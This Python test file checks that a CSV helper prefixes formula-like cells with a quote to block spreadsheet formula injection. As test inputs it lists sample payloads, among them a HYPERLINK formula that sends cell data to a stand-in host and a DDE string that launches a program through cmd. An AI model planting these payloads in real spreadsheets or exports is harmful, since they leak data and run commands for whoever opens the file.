"""Every CSV cell a spreadsheet would read as a formula is written as text (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io

import pytest

from llmplay.csvsafe import csv_text, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["plain", " =not a formula", "", "'quoted", -3, 2.5, None, True, "-3", "+1.5e3", "-.5"]
)
def test_other_cells_stay_as_they_are(value):
    assert safe_cell(value) == value  # numbers (and text that is only a number) cannot run anything


def test_csv_text_escapes_cells_and_header_and_reads_back():
    text = csv_text([{"a": "=1+1", "=b": -3}, {"a": "ok"}], ["a", "=b"])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a", "'=b"], ["'=1+1", "-3"], ["ok", ""]]
